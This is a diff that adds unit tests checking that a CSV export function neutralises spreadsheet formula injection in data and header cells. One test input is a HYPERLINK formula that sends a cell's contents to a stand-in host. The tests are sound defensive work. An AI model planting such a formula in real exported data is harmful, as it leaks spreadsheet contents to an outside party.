@@ -24,3 +24,18 @@ describe('csvDataUrl escaping', () => {
     expect(decodeURIComponent(url.slice(url.indexOf(',') + 1))).toBe('\uFEFFa,"b #1",50%\r\n');
   });
 });
+
+describe('toCsv against formula injection (OWASP)', () => {
+  it('prefixes text cells that start with = + - @ TAB or CR with a quote mark, and quotes them', () => {
+    const csv = toCsv(['note'], [['=HYPERLINK("http://x.example/?"&A1,"click")'], ['+1+2'], ['-2+3'], ['@SUM(A1)'], ['\tcmd'], ['\rcmd']]);
+    expect(csv.split('\r\n').slice(1, -1)).toEqual(['"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"', '"\'+1+2"', '"\'-2+3"', '"\'@SUM(A1)"', '"\'\tcmd"', '"\'\rcmd"']);
+  });
+
+  it('keeps numbers, negative ones too, as numbers, and leaves ordinary text alone', () => {
+    expect(toCsv(['a', 'b', 'c'], [[-12.5, 'Côte d’Ivoire', 'a=b']])).toBe('a,b,c\r\n-12.5,Côte d’Ivoire,a=b\r\n');
+  });
+
+  it('neutralises a header cell too (a console column may be named by whoever wrote the query)', () => {
+    expect(toCsv(['=1+1'], []).startsWith('"\'=1+1"')).toBe(true);
+  });
+});
